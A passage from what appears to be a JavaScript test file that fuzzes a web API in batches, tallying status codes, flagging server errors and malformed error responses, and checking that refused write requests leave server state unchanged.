              .slice(0, Math.min(BATCH_SIZE, REQUEST_BUDGET - sent));
      batchIndex += 1;
      const before = await snapshotState();
      const responses = await runInParallel(batch, CONCURRENCY, sendFuzz);
      sent += batch.length;
      let isEveryWriteRefused = true;
      responses.forEach((response, index) => {
        const request = batch[index];
        statusCounts[response.statusCode] = (statusCounts[response.statusCode] ?? 0) + 1;
        if (![401, 403, 429].includes(response.statusCode)) {
          pastTheGate += 1;
        }
        if (response.statusCode >= 500) {
          serverErrors.push(describeRequest(request, response));
        } else if (response.statusCode >= 400 && !hasErrorShape(response)) {
          shapeless.push(describeRequest(request, response));
        }
        if (!READ_ONLY.has(request.method) && response.statusCode < 400) {
          isEveryWriteRefused = false;
        }
      });
      if (isEveryWriteRefused) {
        const after = await snapshotState();
        if (after === before) {
          verifiedRefusals += batch.length;
        } else {
          stateChanges.push(
            `batch ${batchIndex}: ${before} -> ${after}\n${batch.map((request) => `  ${request.method} ${request.url.slice(0, 200)} [${request.label}]`).join("\n")}`,
          );
        }
      }
      await keepSessionsAlive();
    }

    const figures = { fuzzRequests: sent, fuzz5xx: serverErrors.length };
    recordHardening("fuzz", figures);
    console.log(
      `[fuzz] seed ${SEED}: ${sent} requests over ${operations.length} operations (${Math.min(sweep.length, sent)} from the one-field sweep of ${sweep.length}); ` +
        `${pastTheGate} got past authentication and throttling; ${verifiedRefusals} refused in batches checked unchanged; ` +
        `statuses ${JSON.stringify(statusCounts)}`,
    );

    expect(serverErrors.slice(0, MAX_EXAMPLES), `${serverErrors.length} answers were 5xx`).toEqual([]);
    expect(shapeless.slice(0, MAX_EXAMPLES), `${shapeless.length} 4xx answers lacked the error shape`).toEqual([]);
    expect(stateChanges.slice(0, 5), "refused requests changed state").toEqual([]);
    // Most requests must reach the rules they attack, not stop at the session check or a limit.
    expect(pastTheGate / sent).toBeGreaterThan(0.6);
    // And enough batches were wholly refused for the "changes nothing" check to mean something.
    expect(verifiedRefusals / sent).toBeGreaterThan(0.25);
  },
  Math.max(240_000, REQUEST_BUDGET * 60),
);
